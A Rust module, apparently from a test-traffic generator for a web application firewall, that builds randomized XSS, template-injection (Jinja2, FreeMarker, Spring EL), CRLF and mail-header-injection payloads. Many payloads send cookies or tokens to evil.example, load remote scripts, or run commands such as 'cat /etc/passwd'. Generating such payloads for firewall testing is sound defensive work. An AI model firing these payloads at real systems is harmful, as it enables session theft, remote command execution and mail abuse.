//! Attacks on what reads markup: browsers, template engines, headers, mail.

use medward_waf::AttackClass;

use super::super::attack::{AttackGrammar, payload};
use super::super::encode::Encoding;
use super::super::place::Place;
use super::super::rng::Rng;

const HTML: &[Encoding] = &[
    Encoding::Plain,
    Encoding::Percent,
    Encoding::DoublePercent,
    Encoding::PercentU,
    Encoding::HtmlEntity,
    Encoding::Base64,
    Encoding::JsonEscape,
    Encoding::JsEscape,
    Encoding::Overlong,
    Encoding::Utf7,
    Encoding::Comment,
    Encoding::Case,
    Encoding::Whitespace,
    Encoding::Combined,
];
const PLAIN: &[Encoding] =
    &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent, Encoding::JsonEscape, Encoding::Base64];
const WITH_PATH: &[Place] =
    &[Place::Path, Place::Query, Place::Form, Place::Json, Place::Cookie, Place::Multipart, Place::Xml, Place::Header];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload("xss-script", AttackClass::Xss, 100, script, WITH_PATH, HTML),
    payload("xss-event-handler", AttackClass::Xss, 110, handler, Place::PARAMETERS, HTML),
    payload("xss-url", AttackClass::Xss, 70, url, Place::PARAMETERS, HTML),
    payload(
        "xss-attribute",
        AttackClass::Xss,
        60,
        attribute,
        &[Place::Query, Place::Form, Place::Json],
        &[
            Encoding::Plain,
            Encoding::Percent,
            Encoding::DoublePercent,
            Encoding::Case,
            Encoding::Whitespace,
            Encoding::JsonEscape,
            Encoding::Base64,
        ],
    ),
    payload(
        "xss-style",
        AttackClass::Xss,
        30,
        style,
        &[Place::Query, Place::Form, Place::Json, Place::Multipart],
        &[Encoding::Plain, Encoding::CssEscape, Encoding::Percent, Encoding::DoublePercent],
    ),
    payload("ssti-python", AttackClass::Ssti, 60, ssti_python, Place::PARAMETERS, PLAIN),
    payload("ssti-java", AttackClass::Ssti, 50, ssti_java, Place::PARAMETERS, PLAIN),
    payload(
        "crlf-headers",
        AttackClass::Crlf,
        40,
        crlf,
        &[Place::Query, Place::Form, Place::Path, Place::Cookie],
        &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent],
    ),
    payload(
        "mail-headers",
        AttackClass::Mail,
        35,
        mail,
        &[Place::Form, Place::Query, Place::Json, Place::Multipart],
        &[Encoding::Plain, Encoding::Percent, Encoding::JsonEscape],
    ),
];

/// What an attacker's script does.
fn action(rng: &mut Rng) -> String {
    let n = rng.between(1, 9999);
    let word = rng.letters(4);
    match rng.below(10) {
        0 | 1 => format!("alert({n})"),
        2 => "alert(document.cookie)".to_owned(),
        3 => format!("confirm('{word}')"),
        4 => format!("prompt(\"{n}\")"),
        5 => "alert(document.domain)".to_owned(),
        6 => format!("fetch('//{word}.evil.example/?c='+document.cookie)"),
        7 => format!("location='http://evil.example/{word}?'+document.cookie"),
        8 => format!("new Image().src='http://evil.example/{n}?'+localStorage.token"),
        _ => format!("eval(atob('{}'))", super::super::codec::base64(format!("alert({n})"))),
    }
}

fn script(rng: &mut Rng) -> Vec<u8> {
    let code = action(rng);
    let word = rng.letters(4);
    let lead = rng.pick(&["", "\">", "'>", "</title>", "</textarea>", "--></script>", "1", "</style>"]);
    match rng.below(7) {
        0 | 1 => format!("{lead}<script>{code}</script>"),
        2 => format!("{lead}<script src=//{word}.evil.example/{word}.js></script>"),
        3 => format!("{lead}<script type=\"text/javascript\">{code}</script>"),
        4 => format!("{lead}<script >{code};//"),
        5 => format!("{lead}<script\n>{code}</script\n>"),
        _ => format!("{lead}<<script>{code};//<</script>"),
    }
    .into_bytes()
}

fn handler(rng: &mut Rng) -> Vec<u8> {
    let code = action(rng).replace('"', "'");
    let word = rng.letters(3);
    let lead = rng.pick(&["", "\">", "'>", "x", "</div>"]);
    let element = match rng.below(12) {
        0 => format!("<img src={word} onerror=\"{code}\">"),
        1 => format!("<svg onload=\"{code}\">"),
        2 => format!("<body onload=\"{code}\">"),
        3 => format!("<input autofocus onfocus=\"{code}\">"),
        4 => format!("<a href=# onclick=\"{code}\">{word}</a>"),
        5 => format!("<div onmouseover=\"{code}\">{word}</div>"),
        6 => format!("<video src={word} onerror=\"{code}\"></video>"),
        7 => format!("<iframe onload=\"{code}\"></iframe>"),
        8 => format!("<select onchange=\"{code}\" autofocus><option>{word}</select>"),
        9 => format!("<marquee onstart=\"{code}\">{word}</marquee>"),
        10 => format!("<img src=x:{word} alt=a onerror=\"{code}\" />"),
        _ => format!("<button onclick=\"{code}\">{word}</button>"),
    };
    format!("{lead}{element}").into_bytes()
}

fn url(rng: &mut Rng) -> Vec<u8> {
    let code = action(rng).replace('"', "'");
    let word = rng.letters(3);
    match rng.below(7) {
        0 => format!("<a href=\"javascript:{code}\">{word}</a>"),
        1 => format!("<iframe src=\"javascript:{code}\">"),
        2 => format!("<form action=\"javascript:{code}\"><input type=submit value={word}></form>"),
        3 => format!(
            "<object data=\"data:text/html;base64,{}\">",
            super::super::codec::base64(format!("<script>{code}</script>"))
        ),
        4 => format!("<embed src=\"javascript:{code}\">{word}"),
        5 => format!("javascript:{code}//{word}"),
        _ => format!("<meta http-equiv=\"refresh\" content=\"0;url=javascript:{code}\">"),
    }
    .into_bytes()
}

/// Out of an attribute or a string of a script, without a new element.
fn attribute(rng: &mut Rng) -> Vec<u8> {
    let code = action(rng).replace(['"', '\''], "`");
    let word = rng.letters(3);
    match rng.below(8) {
        0 => format!("\" onmouseover=\"{code}"),
        1 => format!("' onfocus='{code}' autofocus='{word}"),
        2 => format!("\" autofocus onfocus={code} {word}=\""),
        3 => format!("';{code};//{word}"),
        4 => format!("\";{code};var {word}=\""),
        5 => format!("'-{code}-'"),
        6 => format!("\"}});{code};//{word}"),
        _ => format!("{word}\" onclick=\"{code}\" style=\"position:fixed"),
    }
    .into_bytes()
}

fn style(rng: &mut Rng) -> Vec<u8> {
    let code = action(rng).replace(['"', '\''], "`");
    let word = rng.letters(4);
    match rng.below(4) {
        0 => format!("<div style=\"width:expression({code})\">{word}</div>"),
        1 => format!("<div style=\"background:url(javascript:{code})\">"),
        2 => format!("<style>@import'http://evil.example/{word}.css';</style>"),
        _ => format!("<xss style=\"behavior:url(http://evil.example/{word}.htc)\">"),
    }
    .into_bytes()
}

fn ssti_python(rng: &mut Rng) -> Vec<u8> {
    let (n, m, word) = (rng.between(2, 999), rng.between(2, 999), rng.letters(3));
    let command = rng.pick(&["id", "whoami", "cat /etc/passwd", "ls /"]);
    match rng.below(11) {
        0 => format!("{{{{{n}*{m}}}}}"),
        1 => format!("{word}{{{{{n}*'{m}'}}}}"),
        2 => format!("{{{{''.__class__.__mro__[{}].__subclasses__()[{n}]}}}}", 1 + n % 2),
        3 => format!("{{{{config.__class__.__init__.__globals__['os'].popen('{command}').read()}}}}"),
        4 => format!("{{{{request.application.__globals__.__builtins__.__import__('os').popen('{command}').read()}}}}"),
        5 => format!("{{% for c in [].__class__.__base__.__subclasses__() %}}{{% if c.__name__=='catch_warnings' %}}{{{{c.__init__.__globals__['__builtins__'].eval('{n}+{m}')}}}}{{% endif %}}{{% endfor %}}"),
        6 => format!("{{{{lipsum.__globals__['os'].popen('{command}').read()}}}}"),
        7 => format!("{{{{cycler.__init__.__globals__.os.popen('{command}').read()}}}}{word}"),
        8 => format!("{{{{url_for.__globals__['current_app'].config}}}}{word}"),
        9 => format!("{{{{self._TemplateReference__context.joiner.__init__.__globals__.os.popen('{command}').read()}}}}"),
        _ => format!("{{{{()|attr('__class__')|attr('__base__')|attr('__subclasses__')()}}}}{word}"),
    }
    .into_bytes()
}

fn ssti_java(rng: &mut Rng) -> Vec<u8> {
    let (n, m, word) = (rng.between(2, 999), rng.between(2, 999), rng.letters(3));
    let command = rng.pick(&["id", "whoami", "calc", "cat /etc/passwd"]);
    match rng.below(7) {
        0 => format!("${{{n}*{m}}}"),
        1 => format!("#{{{n}*{m}}}{word}"),
        2 => format!("<#assign {word}=\"freemarker.template.utility.Execute\"?new()>${{{word}(\"{command}\")}}"),
        3 => format!("${{\"freemarker.template.utility.Execute\"?new()(\"{command}\")}}{word}"),
        4 => format!("${{T(java.lang.Runtime).getRuntime().exec('{command}')}}{n}"),
        5 => format!("[#assign {word} = 'freemarker.template.utility.ObjectConstructor'?new()]${{{word}('java.lang.ProcessBuilder','{command}').start()}}"),
        _ => format!("${{product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/{word}').toURL().openStream()}}"),
    }
    .into_bytes()
}

fn crlf(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(4), rng.below(9999));
    let end = rng.pick(&["\r\n", "\n", "\r\n\r\n"]);
    match rng.below(6) {
        0 => format!("{word}{end}Set-Cookie: {word}={n}"),
        1 => format!("/{word}{end}Location: http://evil.example/{n}"),
        2 => format!(
            "zh{end}Content-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>{n}</html>"
        ),
        3 => format!("{n}{end}X-XSS-Protection: 0\r\n\r\n<script>alert({n})</script>"),
        4 => format!("{word}{end}Access-Control-Allow-Origin: http://{word}.evil.example"),
        _ => format!("{n}{end}Set-Cookie: JSESSIONID={}; Path=/", rng.hex(16)),
    }
    .into_bytes()
}

fn mail(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(5);
    let end = rng.pick(&["\r\n", "\n"]);
    match rng.below(5) {
        0 => format!("{word}@mail.example{end}Bcc: {word}@evil.example"),
        1 => format!("{word}@mail.example{end}Cc: a@evil.example, b@evil.example"),
        2 => format!("咨询{end}To: {word}@evil.example{end}{end}buy now"),
        3 => format!("{word}@mail.example{end}Content-Type: text/html{end}{end}<h1>{word}</h1>"),
        _ => format!("{word}@mail.example{end}Subject: {word}{end}Bcc: list@evil.example"),
    }
    .into_bytes()
}
